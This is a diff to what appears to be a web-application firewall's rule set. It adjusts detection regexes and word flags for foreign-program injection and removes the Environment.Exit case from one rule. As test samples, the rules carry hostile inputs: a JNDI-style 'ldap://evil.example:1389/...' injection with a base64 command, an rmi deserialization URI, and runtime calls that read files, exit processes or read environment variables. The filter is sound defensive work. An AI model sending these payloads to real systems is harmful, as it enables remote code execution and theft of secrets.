@@ -53,7 +53,7 @@ export const foreignProgramRules: readonly Rule[] = [
       score: 5,
       quotable: true,
       chars: CHAR.scheme,
-      words: 0,
+      words: WORD.lookup,
       attacks: ['ldap://evil.example:1389/Basic/Command/Base64/aWQ=', 'rmi://a/Deserialization/x/y'],
       benign: ['ldap://dc.example.com/o=users', 'ldap://dc.example.com/dc=example'],
     },
@@ -81,22 +81,21 @@ export const foreignProgramRules: readonly Rule[] = [
   // Calls into the runtime of a language that end the program, start another one or read its files.
   pattern(
     'code/server-call',
-    /\[system\.(?:io\.(?:file|directory)|diagnostics\.process|net\.webclient|reflection\.assembly)\]::\w|\benvironment\.(?:exit|failfast)\s?\(|\berlang:(?:halt|open_port)\s?\(|\bclojure\.core\/eval\b|\(system\/(?:exit|getenv)\s|\bjava\.lang\.system\.(?:exit|getenv|setproperty|load|loadlibrary)\s?\(|\bgetservletcontext\(\)\s?\.\s?getrealpath\s?\(|\bthis\.process\.(?:env|mainmodule|binding|exit)\b|\bprocess\.binding\s?\(/,
+    /\[system\.(?:io\.(?:file|directory)|diagnostics\.process|net\.webclient|reflection\.assembly)\]::\w|\berlang:(?:halt|open_port)\s?\(|\bclojure\.core\/eval\b|\(system\/(?:exit|getenv)\s|\bjava\.lang\.system\.(?:exit|getenv|setproperty|load|loadlibrary)\s?\(|\bgetservletcontext\(\)\s?\.\s?getrealpath\s?\(|\bthis\.process\.(?:env|mainmodule|binding|exit)\b|\bprocess\.binding\s?\(/,
     {
       score: 5,
       quotable: true,
       chars: CHAR.paren,
-      words: 0,
+      words: WORD.java | WORD.runtime,
       attacks: [
         '[System.IO.File]::ReadAllText("C:\\x")',
-        'Environment.Exit(0)',
         'erlang:halt().',
         '(clojure.core/eval x)',
         '(System/exit 0)',
         'java.lang.System.exit(1)',
         '(function(){return this.process.env})()',
       ],
-      benign: ['environment (exit)', 'System.out.println(1)', 'process.env', '[System.IO]'],
+      benign: ['System.out.println(1)', 'process.env', '[System.IO]'],
     },
   ),
 ]
